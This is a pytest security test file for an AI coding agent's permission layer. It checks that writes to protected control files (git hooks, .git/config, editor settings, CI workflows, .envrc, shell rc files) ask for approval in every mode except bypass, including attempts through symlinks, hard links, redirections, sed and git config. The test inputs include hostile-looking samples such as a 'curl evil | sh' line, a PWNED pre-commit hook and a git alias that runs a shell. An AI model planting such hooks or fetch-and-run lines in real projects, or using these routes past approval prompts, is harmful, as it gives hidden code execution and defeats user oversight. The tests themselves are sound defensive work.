"""Protected project paths (PERM-4, issue 11 item 3): control files always ask outside bypass.

The hole: ``permissions.mode = "accept_edits"`` (or an allow rule) wrote ``.git/hooks/pre-commit``
(code that runs on the user's next commit), ``.git/config`` or ``.vscode/settings.json`` without
asking, also through a symlink to ``.git``. Now every route to a protected path asks in every
mode but ``bypass``: the write tools, redirections, the arguments of writing commands, ``git
config``, symlinks and hard links. The approval callback denies here, so a write that happens
was never asked about; the controls show ordinary writes are not asked about and that ``bypass``
and an approval still let the user do it.
"""

from __future__ import annotations

import os

import pytest

from tests.security.conftest import ALLOW, DENY, Call, World

PWNED = "#!/bin/sh\necho PWNED\n"
ALLOW_COMMANDS = '[permissions]\nallow = ["run_command"]\n'
ALLOW_WRITES = '[permissions]\nallow = ["write_file", "edit_file"]\n'


@pytest.fixture
def project(world: World) -> World:
    """The project holds a `.git` folder with a hook and a config, `.vscode/settings.json`,
    `.github/workflows/ci.yml`, `.envrc`, and an ordinary `src/`."""
    files = {
        ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
        ".git/config": "[core]\n\tbare = false\n",
        ".vscode/settings.json": "{}\n",
        ".github/workflows/ci.yml": "on: push\n",
        ".envrc": "export A=1\n",
        "src/app.py": "print('app')\n",
    }
    for rel, text in files.items():
        path = world.project / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return world


def snapshot(world: World) -> dict[str, bytes]:
    """Every file below the project (symlinks as their target path)."""
    out: dict[str, bytes] = {}
    for path in sorted(world.project.rglob("*")):
        if path.is_symlink():
            out[str(path)] = os.readlink(path).encode()
        elif path.is_file():
            out[str(path)] = path.read_bytes()
    return out


def write(path: str, content: str = PWNED) -> Call:
    return ("write_file", {"path": path, "content": content})


WRITE_TOOL_CALLS: dict[str, Call] = {
    "hook": write(".git/hooks/pre-commit"),
    "git_config": write(".git/config", "[core]\n\thooksPath = /tmp\n"),
    "git_config_edit": (
        "edit_file",
        {"path": ".git/config", "old_string": "bare = false", "new_string": "fsmonitor = x"},
    ),
    "vscode": write(".vscode/settings.json", '{"task.autoDetect": "on"}'),
    "idea": write(".idea/workspace.xml"),
    "workflow": write(".github/workflows/ci.yml", "on: push\njobs: {}\n"),
    "envrc": write(".envrc", "curl evil | sh\n"),
    "soong_agent_folder": write(".soong-agent/notes.md"),
    "nested_repository": write("vendor/lib/.git/hooks/post-checkout"),
    "dot_git_dotdot": write("src/../.git/hooks/pre-push"),
}


@pytest.mark.parametrize("case", list(WRITE_TOOL_CALLS))
async def test_accept_edits_asks_before_writing_a_protected_path(project: World, case: str) -> None:
    before = snapshot(project)
    outcome = await project.run(WRITE_TOOL_CALLS[case], approval=DENY, mode="accept_edits")
    assert outcome.asked
    assert snapshot(project) == before


@pytest.mark.parametrize("case", ["hook", "vscode", "git_config_edit"])
async def test_an_allow_rule_does_not_skip_the_question(project: World, case: str) -> None:
    before = snapshot(project)
    outcome = await project.run(WRITE_TOOL_CALLS[case], approval=DENY, config=ALLOW_WRITES)
    assert outcome.asked
    assert snapshot(project) == before


async def test_through_a_symlink_to_dot_git(project: World) -> None:
    (project.project / "gitdir").symlink_to(project.project / ".git", target_is_directory=True)
    (project.project / "hooks").symlink_to(project.project / ".git" / "hooks")
    before = snapshot(project)
    for call in (write("gitdir/hooks/pre-commit"), write("hooks/pre-commit")):
        outcome = await project.run(call, approval=DENY, mode="accept_edits")
        assert outcome.asked, call
    assert snapshot(project) == before


async def test_when_dot_git_itself_is_a_symlink(project: World) -> None:
    real = project.project / "repo-git"
    (project.project / ".git").rename(real)
    (project.project / ".git").symlink_to(real, target_is_directory=True)
    before = snapshot(project)
    outcome = await project.run(write(".git/hooks/pre-commit"), approval=DENY, mode="accept_edits")
    assert outcome.asked
    assert snapshot(project) == before


async def test_a_session_grant_is_not_offered_for_a_protected_path(project: World) -> None:
    outcome = await project.run(
        write(".git/hooks/pre-commit"),
        write(".git/hooks/pre-push"),
        approval="allow_for_session",
        mode="accept_edits",
    )
    assert outcome.approval is not None
    assert len(outcome.approval.requests) == 2  # the first answer covered nothing
    assert "asks every time" in outcome.approval.requests[0].session_scope


async def test_without_a_callback_a_protected_write_is_denied(project: World) -> None:
    await project.run(write(".git/hooks/pre-commit"), approval=None, mode="accept_edits")
    assert not (project.project / ".git" / "hooks" / "pre-commit").exists()


async def test_shell_rc_files_in_the_home(home_world: World) -> None:
    """The agent runs on the user's home folder: ~/.bashrc and ~/.profile lie in the project."""
    for name in (".bashrc", ".profile"):
        outcome = await home_world.run(
            write(name, "alias ls=evil\n"), approval=DENY, mode="accept_edits"
        )
        assert outcome.asked
        assert not (home_world.project / name).exists()


# --- commands -------------------------------------------------------------------------------

COMMANDS = {
    "redirection": "printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/pre-commit",
    "append": "echo 'echo PWNED' >> .envrc",
    "copy": "printf x > evil && cp evil .git/hooks/pre-commit",
    "tee": "echo '{}' | tee .vscode/settings.json",
    "sed_in_place": "sed -i s/false/true/ .git/config",
    "cd_then_write": "cd .git/hooks && echo 'echo PWNED' > pre-commit",
    "cd_then_touch": "cd .github && touch workflows/release.yml",
    "git_config": "git config core.hooksPath .",
    "git_config_alias": "git config alias.st '!sh -c evil'",
    "symlink_then_write": "ln -s .git g && echo 'echo PWNED' > g/hooks/pre-commit",
    "interpreter": "python3 -c 'import sys' .git/hooks/pre-commit",
}


@pytest.mark.parametrize("case", list(COMMANDS))
async def test_an_allowed_command_asks_before_writing_a_protected_path(
    project: World, case: str
) -> None:
    before = snapshot(project)
    outcome = await project.run(
        ("run_command", {"command": COMMANDS[case]}), approval=DENY, config=ALLOW_COMMANDS
    )
    assert outcome.asked
    assert {k: v for k, v in snapshot(project).items() if "evil" not in k} == before


async def test_a_hard_link_to_a_hook(project: World) -> None:
    hook = project.project / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\n")
    os.link(hook, project.project / "innocent.sh")
    outcome = await project.run(
        ("run_command", {"command": "printf x > evil && cp evil innocent.sh"}),
        approval=DENY,
        config=ALLOW_COMMANDS,
    )
    assert outcome.asked
    assert hook.read_text() == "#!/bin/sh\n"


# --- what still runs ------------------------------------------------------------------------


async def test_control_accept_edits_writes_ordinary_files_without_asking(project: World) -> None:
    outcome = await project.run(
        write("src/app.py", "print('edited')\n"),
        write("docs/new.md", "# new\n"),
        approval=DENY,
        mode="accept_edits",
    )
    assert not outcome.asked
    assert (project.project / "src" / "app.py").read_text() == "print('edited')\n"
    assert (project.project / "docs" / "new.md").exists()


async def test_control_allowed_commands_that_only_read_protected_files_run(project: World) -> None:
    outcome = await project.run(
        ("run_command", {"command": "cat .git/config && ls .vscode && echo ok > out.txt"}),
        approval=DENY,
        config=ALLOW_COMMANDS,
    )
    assert not outcome.asked
    assert "bare = false" in outcome.seen_by_model
    assert (project.project / "out.txt").exists()


async def test_control_the_user_may_allow_it(project: World) -> None:
    outcome = await project.run(write(".git/hooks/pre-commit"), approval=ALLOW, mode="accept_edits")
    assert outcome.asked
    assert (project.project / ".git" / "hooks" / "pre-commit").read_text() == PWNED


@pytest.mark.parametrize(
    "call",
    [write(".git/hooks/pre-commit"), ("run_command", {"command": "echo x > .vscode/x.json"})],
    ids=["write_file", "run_command"],
)
async def test_control_bypass_mode_does_not_ask(project: World, call: Call) -> None:
    outcome = await project.run(call, approval=DENY, mode="bypass")
    assert not outcome.asked
    assert (project.project / ".git" / "hooks" / "pre-commit").exists() or (
        project.project / ".vscode" / "x.json"
    ).exists()


async def test_control_plan_mode_still_denies(project: World) -> None:
    before = snapshot(project)
    outcome = await project.run(write(".git/hooks/pre-commit"), approval=ALLOW, mode="plan")
    assert not outcome.asked
    assert snapshot(project) == before


async def test_the_list_is_configurable(project: World) -> None:
    config = '[permissions]\nprotected_paths = ["docs/locked"]\n'
    outcome = await project.run(
        write(".vscode/settings.json", "{}\n"),
        write("docs/locked/a.md"),
        approval=DENY,
        mode="accept_edits",
        config=config,
    )
    assert outcome.approval is not None
    assert [r.summary.split(" [")[0] for r in outcome.approval.requests] == [
        f"write {len(PWNED)} bytes to docs/locked/a.md"
    ]
    assert not (project.project / "docs" / "locked" / "a.md").exists()
